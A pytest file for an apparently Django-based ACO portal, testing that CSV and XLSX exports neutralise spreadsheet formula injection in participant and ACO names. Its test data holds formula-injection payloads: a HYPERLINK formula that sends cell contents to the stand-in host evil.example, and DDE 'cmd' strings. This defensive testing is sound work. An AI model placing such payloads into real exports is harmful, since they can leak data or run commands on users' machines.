"""No export runs a formula (issue 16, defect 2): the one writer (``lead_portal.exports``) on its own,
then the CSV and XLSX files people download, with a participant's legal name
``=HYPERLINK("http://evil.example/?x="&A1,"Click")`` and the other prefixes OWASP lists.

In a CSV a formula prefix gets a single quote in front (the cell reads as text in every spreadsheet);
in an XLSX the value is a string cell (``t="s"``), never a formula (``<f>``). Numbers stay numbers.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile
from collections.abc import Callable
from decimal import Decimal
from typing import Any

import pytest
from django.test import Client
from rest_framework.test import APIClient

from apps.accounts.models import User
from apps.acos.models import ACO, ModelParameters
from apps.rural.services import rural_run_execute
from lead_portal.exports import csv_writer, neutralise, xlsx_workbook, xlsx_write, xlsx_write_row
from tests.factories import (
    ElectionFactory,
    ParticipantFactory,
    PreferredProviderFactory,
    aligned,
    alignment_run,
    cclf8_beneficiary,
    performance_summary,
)

ClientFor = Callable[[User | None], Client]

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
# One value per prefix: = + - @ tab CR.
HOSTILE = [
    HYPERLINK,
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def csv_of(*rows: list[Any]) -> list[list[str]]:
    buffer = io.StringIO()
    writer = csv_writer(buffer)
    for row in rows:
        writer.writerow(row)
    return list(csv.reader(io.StringIO(buffer.getvalue(), newline="")))


def read_csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8"), newline="")))


def xlsx_cells(content: bytes, sheet: int = 1) -> list[str]:
    """The sheet's ``<c>`` elements as XML text, and no formula anywhere in it."""
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        xml = book.read(f"xl/worksheets/sheet{sheet}.xml").decode()
    return re.findall(r"<c [^>]*?(?:/>|>.*?</c>)", xml)


def xlsx_shared_strings(content: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        xml = book.read("xl/sharedStrings.xml").decode()
    return [re.sub(r"<[^>]+>", "", si) for si in re.findall(r"<si>(.*?)</si>", xml, re.S)]


def unescape_xml(text: str) -> str:
    return text.replace("&quot;", '"').replace("&amp;", "&").replace("&lt;", "<").replace("&gt;", ">")


def assert_string_cells_only(content: bytes, sheet: int, values: list[str]) -> None:
    """Each value is in the sheet as a shared string (t="s"), and the sheet has no formula."""
    cells = xlsx_cells(content, sheet)
    assert not [c for c in cells if "<f>" in c], "a formula cell in the export"
    strings = [unescape_xml(s) for s in xlsx_shared_strings(content)]
    for value in values:
        assert value in strings, f"{value!r} is not a string cell"
        index = strings.index(value)
        assert [c for c in cells if 't="s"' in c and f"<v>{index}</v>" in c], f"{value!r} is not in sheet {sheet}"


# --- the writer ----------------------------------------------------------------------------------


@pytest.mark.parametrize("value", HOSTILE, ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_a_text_cell_with_a_formula_prefix_gets_a_quote(value: str) -> None:
    assert csv_of(["Name", value]) == [["Name", "'" + value]]


def test_numbers_dates_and_plain_text_are_written_as_they_are() -> None:
    rows = csv_of(
        [-12.5, Decimal("-1234.50"), -7, "-1234.50", "-3", 0, None, dt.date(2027, 1, 31), "Harbor Family Medicine"]
    )
    # A number is never text, nor is a text that is exactly a number: neither can run anything.
    assert rows == [["-12.5", "-1234.50", "-7", "-1234.50", "-3", "0", "", "2027-01-31", "Harbor Family Medicine"]]
    # A text that only looks numeric at first is still neutralised.
    assert neutralise("-1+1") == "'-1+1" and neutralise("-1e5+cmd") == "'-1e5+cmd"
    # A prefix inside a value is harmless: only the first character counts.
    assert neutralise("Clinic =1+1") == "Clinic =1+1"


def test_an_xlsx_writes_every_prefix_as_a_string_cell_never_a_formula() -> None:
    raw = io.BytesIO()
    book = xlsx_workbook(raw)
    sheet = book.add_worksheet("Test")
    xlsx_write_row(sheet, 0, 0, HOSTILE)
    xlsx_write(sheet, 1, 0, -12.5)
    # Even XlsxWriter's own write() cannot make a formula or a link in this workbook.
    sheet.write(2, 0, "=1+1")
    sheet.write(2, 1, "http://evil.example/")
    book.close()
    content = raw.getvalue()
    assert_string_cells_only(content, 1, [*HOSTILE[:4], "=1+1", "http://evil.example/"])
    cells = xlsx_cells(content)
    assert any('r="A2"' in c and "<v>-12.5</v>" in c and 't="s"' not in c for c in cells)  # a number
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        assert not any("hyperlink" in n or "rels" in n and "sheet1" in n for n in parts.namelist())


# --- the exports ---------------------------------------------------------------------------------


@pytest.mark.django_db
def test_participant_and_preferred_provider_csvs_quote_every_prefix(
    aco: ACO, analyst: User, client_for: ClientFor
) -> None:
    for i, name in enumerate(HOSTILE):
        ParticipantFactory.create(aco=aco, tin=f"11100000{i}", legal_name=name)
        PreferredProviderFactory.create(aco=aco, tin=f"11100000{i}", name=name)
    client = client_for(analyst)
    participants = read_csv(client.get(f"/acos/{aco.aco_id}/participants/export.csv?py=2027").content)
    column = participants[0].index("legal_name")
    assert sorted(r[column] for r in participants[1:]) == sorted("'" + n for n in HOSTILE)
    preferred = read_csv(client.get(f"/acos/{aco.aco_id}/preferred-providers/export.csv?py=2027").content)
    column = preferred[0].index("name")
    assert sorted(r[column] for r in preferred[1:]) == sorted("'" + n for n in HOSTILE)


@pytest.fixture
def rural_world(aco: ACO) -> None:
    """A rural run in which the ACO's RHC (ZIP 24801, RUCA 7) has the hostile legal name."""
    ModelParameters.objects.filter(performance_year=2027).update(rural_addon_pbpm=Decimal("10.00"))
    ElectionFactory.create(aco=aco, performance_year=2027, newly_entering=True)
    ParticipantFactory.create(
        aco=aco, tin="600000001", legal_name=HYPERLINK, practice_zip="24801", facility_type="RHC", new_to_aco=True
    )
    ParticipantFactory.create(aco=aco, tin="600000002", legal_name="@SUM(1+9)", practice_zip="21201")
    run = alignment_run(2027)
    cclf8_beneficiary("1EG4TE5MK71", zip_code="24801")
    aligned(run, aco, "1EG4TE5MK71", tin="600000001")
    rural_run_execute(alignment_run=run, performance_year=2027, actual_through=dt.date(2027, 6, 30))


@pytest.mark.django_db
@pytest.mark.usefixtures("rural_world")
def test_the_rural_csv_and_xlsx_hold_the_legal_names_as_text(aco: ACO, analyst: User, client_for: ClientFor) -> None:
    client = client_for(analyst)
    rows = read_csv(client.get(f"/acos/{aco.aco_id}/rural/export.csv?py=2027").content)
    names = {r[1] for r in rows if r and r[0] in ("600000001", "600000002")}
    assert names == {"'" + HYPERLINK, "'@SUM(1+9)"}
    response = client.get(f"/acos/{aco.aco_id}/rural/export.xlsx?py=2027")
    assert response.status_code == 200
    assert_string_cells_only(response.content, 1, [HYPERLINK, "@SUM(1+9)"])


@pytest.mark.django_db
def test_after_an_aco_renames_itself_cms_exports_show_the_name_as_text(
    aco: ACO, admin: User, cms_reviewer: User, client_for: ClientFor, django_capture_on_commit_callbacks: Any
) -> None:
    api = APIClient()
    api.force_authenticate(admin)
    renamed = api.patch(f"/api/acos/{aco.aco_id}/", {"legal_name": HYPERLINK}, format="json")
    assert renamed.status_code == 200
    aco.refresh_from_db()
    assert aco.legal_name == HYPERLINK
    summary = performance_summary(aco)  # the pipeline's snapshot, with the new name

    client = client_for(cms_reviewer)  # one sign-in: a TOTP code is good once
    compare = read_csv(client.get("/performance/acos/?py=2027&format=csv").content)
    header = compare[0]
    row = dict(zip(header, next(r for r in compare[1:] if r[0] == aco.aco_id), strict=True))
    assert row["Name"] == "'" + HYPERLINK

    url = f"/api/acos/{aco.aco_id}/performance/reports/"
    with django_capture_on_commit_callbacks(execute=True):
        created = client.post(url, {"format": "csv", "performance_year": 2027, "run": summary.run_id})
    assert created.status_code == 202, created.content
    download = client.get(client.get(f"{url}{created.json()['id']}/").json()["download_url"])
    rows = read_csv(b"".join(download.streaming_content))  # type: ignore[attr-defined]
    header = rows[0]
    facts = [dict(zip(header, r, strict=True)) for r in rows[1:]]
    name = next(f for f in facts if f["item"] == "ACO name")
    assert name["value"] == "'" + HYPERLINK
    # A negative figure is a number, not quoted text.
    losses = [f["value"] for f in facts if f["value"].startswith("-")]
    assert all(re.fullmatch(r"-\d+(\.\d+)?", v) for v in losses)
